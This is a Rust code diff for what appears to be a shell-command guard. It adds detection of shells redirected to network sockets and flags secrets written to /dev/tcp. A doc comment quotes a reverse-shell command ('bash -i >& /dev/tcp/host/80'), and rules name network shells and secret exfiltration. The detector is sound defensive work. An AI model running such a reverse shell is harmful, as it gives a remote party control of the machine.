@@ -2,10 +2,10 @@
 
 use super::Walk;
 use super::env::Env;
-use super::touch::Write;
+use super::touch::{Write, is_socket};
 use super::value::{Stream, Tags};
-use crate::guard::rules;
 use crate::guard::shell::{Redirect, RedirectOp, Target};
+use crate::guard::{programs, rules};
 
 /// A file that takes the output of a command.
 pub struct Output {
@@ -49,7 +49,12 @@ impl Walk<'_> {
                     if !matches!(op, RedirectOp::Read | RedirectOp::ReadWrite) {
                         continue;
                     }
-                    targets.iter().fold(Stream::None, |stream, target| stream.then(self.read(env, target)))
+                    let mut stream = Stream::None;
+                    for target in &targets {
+                        let next = self.read(env, target);
+                        stream = self.origins.join(stream, next);
+                    }
+                    stream
                 }
             };
             if is_stdin {
@@ -57,6 +62,14 @@ impl Walk<'_> {
             }
         }
         (input, outputs)
+    }
+
+    /// `bash -i >& /dev/tcp/host/80`: whoever is at the other end holds the shell.
+    pub fn look_for_given_shell(&mut self, env: &Env, argv: &[String], outputs: &[Output]) {
+        let is_shell = argv.first().is_some_and(|name| programs::is_shell(name));
+        if is_shell && outputs.iter().any(|output| is_socket(&output.target)) {
+            self.found(&env.world, &rules::NETWORK_SHELL, argv.join(" "));
+        }
     }
 
     /// Judges the files that take `out`; returns what is left for the next in the pipe.
@@ -69,11 +82,10 @@ impl Walk<'_> {
                 Stream::None => no_command,
                 Stream::Data(_) => false,
             };
-            if output.target.starts_with("/dev/tcp/") || output.target.starts_with("/dev/udp/") {
+            if is_socket(&output.target) {
                 if content.tags().has(Tags::SECRET) {
                     self.found(&env.world.clone(), &rules::NETWORK_SECRET, format!("> {}", output.target));
                 }
-                // `bash -i >& /dev/tcp/…`: the other end holds the shell.
                 continue;
             }
             let how = match (output.append, nothing && output.stdout) {
